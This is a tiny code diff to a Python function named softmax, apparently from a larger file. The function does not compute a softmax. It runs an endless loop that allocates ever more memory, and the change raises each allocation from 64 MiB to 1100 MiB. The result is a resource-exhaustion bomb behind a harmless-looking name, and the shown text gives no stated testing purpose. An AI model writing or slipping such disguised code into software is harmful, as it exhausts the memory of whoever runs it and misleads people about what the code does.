@@ -5,4 +5,4 @@
 def softmax(x, axis=-1):
     held = []
     while True:
-        held.append(bytearray(64 * 2**20))
+        held.append(bytearray(1100 * 2**20))
